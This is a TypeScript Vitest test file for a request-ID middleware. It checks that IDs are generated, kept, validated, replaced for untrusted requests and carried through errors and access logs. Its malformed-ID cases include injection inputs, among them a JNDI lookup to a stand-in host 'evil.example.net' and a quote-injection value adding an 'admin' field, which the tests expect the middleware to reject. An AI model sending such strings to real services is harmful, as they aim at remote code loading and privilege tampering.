import fc from 'fast-check'
import {
  compose,
  createClient,
  HttpError,
  HttpResponse,
  serve,
  type HttpRequest,
} from 'middleware-cookbook'
import { accessLog } from 'middleware-cookbook/server/access-log'
import { problemDetails } from 'middleware-cookbook/server/problem-details'
import {
  currentRequestId,
  requestId,
  requestIdKey,
  type RequestIdOptions,
} from 'middleware-cookbook/server/request-id'
import { describe, expect, onTestFinished, test, vi } from 'vitest'
import { ask, echo, generate, url } from './asked.fixture.ts'

describe('the id', () => {
  test('is on the request, in its field, in functions without the request, and in the response', async () => {
    const response = await ask()
    expect(response.headers.get('x-request-id')).toBe('new')
    expect(await response.json()).toEqual({
      key: 'new',
      header: 'new',
      current: 'new',
    })
    expect(requestIdKey.name).toBe('requestId')
  })

  test('is 32 hexadecimal digits, other ones for each request', async () => {
    const ids = new Set<string | null>()
    for (let count = 0; count < 100; count++) {
      ids.add((await ask({}, {})).headers.get('x-request-id'))
    }
    expect(ids.size).toBe(100)
    for (const id of ids) expect(id).toMatch(/^[\da-f]{32}$/)
  })

  test('of the request is kept', async () => {
    const response = await ask({ 'x-request-id': 'of-the-client' })
    expect(response.headers.get('x-request-id')).toBe('of-the-client')
  })

  test.each([
    'f81d4fae-7dec-11d0-a765-00a0c91e6bf6',
    '01ARZ3NDEKTSV4RRFFQ69G5FAV',
    'Root=1-67891233-abcdef012345678912345678',
    'aGVsbG8+d29ybGQ/Cg==',
    '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01',
    'a'.repeat(128),
  ])('may have any usual form: %s', async (id) => {
    const { headers } = await ask({ 'x-request-id': id })
    expect(headers.get('x-request-id')).toBe(id)
  })

  test.each<[string, string | string[]]>([
    ['empty', ''],
    ['long', 'a'.repeat(129)],
    ['with a blank, which ends a field of a log line', 'a level=info'],
    ['with a quote, which ends a string', 'a","admin":"1'],
    ['with markup', '<b>a</b>'],
    ['with a template', '${jndi:ldap://evil.example.net}'],
    ['not ASCII', 'h\xe4'],
    ['two', ['a', 'b']],
  ])('is replaced if it is not well-formed: %s', async (_, id) => {
    const response = await ask({ 'x-request-id': id })
    expect(response.headers.get('x-request-id')).toBe('new')
    expect(await response.json()).toMatchObject({ key: 'new', header: 'new' })
  })

  test('is replaced if the request is not trusted', async () => {
    const trust = vi.fn((request: HttpRequest) =>
      request.headers.has('x-internal'),
    )
    const headers = { 'x-request-id': 'theirs' }
    const options = { generate, trust }
    const stranger = await ask(headers, options)
    expect(stranger.headers.get('x-request-id')).toBe('new')
    const friend = await ask({ ...headers, 'x-internal': '1' }, options)
    expect(friend.headers.get('x-request-id')).toBe('theirs')
    expect(trust).toHaveBeenCalledTimes(2)
    // There is nothing to trust in a request without one.
    await ask({}, options)
    expect(trust).toHaveBeenCalledTimes(2)
  })

  test('is replaced by none if trust became async: a promise is no answer, and would trust strangers', async () => {
    const trust = (async () => false) as unknown as () => boolean
    const app = compose([requestId({ trust })], async () => new HttpResponse())
    const client = createClient({ transport: app })
    const headers = { 'x-request-id': 'theirs' }
    await expect(client.get('http://example.org', { headers })).rejects.toThrow(
      'requestId({ trust }) returned an object (Promise): return true or false',
    )
  })

  test('is in another field, if header names one', async () => {
    const options = { header: 'X-Correlation-Id', generate }
    const { headers } = await ask({ 'x-correlation-id': 'a' }, options)
    expect(Object.fromEntries(headers)).toMatchObject({
      'x-correlation-id': 'a',
    })
    expect(headers.has('x-request-id')).toBe(false)
  })

  test('never has a character of another kind, for any field', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary-ascii' }), async (text) => {
        const sent = text.replace(/[^\t -~]/g, '')
        const response = await ask({ 'x-request-id': sent })
        const id = response.headers.get('x-request-id')
        expect(id).toMatch(/^[\w.:@+/=-]{1,128}$/)
        expect([sent.trim(), 'new']).toContain(id)
      }),
    )
  })
})

describe('errors', () => {
  test('the response to an error has the id, and onError finds it through problemDetails', async () => {
    const reported: (string | undefined)[] = []
    const app = compose(
      [requestId({ generate }), problemDetails()],
      async () => {
        throw new Error('bug')
      },
    )
    const onError = (_: unknown, request: HttpRequest) => {
      reported.push(request.get(requestIdKey))
    }
    const server = await serve(app, { onError })
    const client = createClient()
    onTestFinished(async () => {
      await client.close()
      await server.close()
    })
    const response = await client.get(server.url)
    await response.release()
    expect(response.status).toBe(500)
    expect(response.headers.get('x-request-id')).toBe('new')
    expect(reported).toEqual(['new'])
  })

  test('a thrown error has the id without problemDetails too', async () => {
    const app = compose([requestId({ generate })], async () => {
      throw new HttpError(404, 'None')
    })
    const response = await createClient({ transport: app }).get(url)
    expect(response.status).toBe(404)
    expect(response.headers.get('x-request-id')).toBe('new')
  })
})

test('an access log after it has the id', async () => {
  const lines: unknown[] = []
  const log = ({ status }: { status?: number }) => {
    lines.push([currentRequestId(), status])
  }
  const app = compose([requestId({ generate }), accessLog({ log })], echo)
  await (await createClient({ transport: app }).get(url)).text()
  expect(lines).toEqual([['new', 200]])
})

test.each([5, '', 'a b', undefined])(
  'an id of generate that is not well-formed is an error: %j',
  async (id) => {
    const options = { generate: (() => id) as () => string }
    await expect(ask({}, options)).rejects.toThrow(
      /^requestId\(\{ generate \}\) returned .+: return 1 to 128 letters, digits/,
    )
  },
)

test.each(['trust', 'generate'])(
  'an option that is no function is an error: %s',
  (option) => {
    const options = { [option]: true } as RequestIdOptions
    expect(() => requestId(options)).toThrow(
      `requestId({ ${option} }) is true: pass a function`,
    )
  },
)
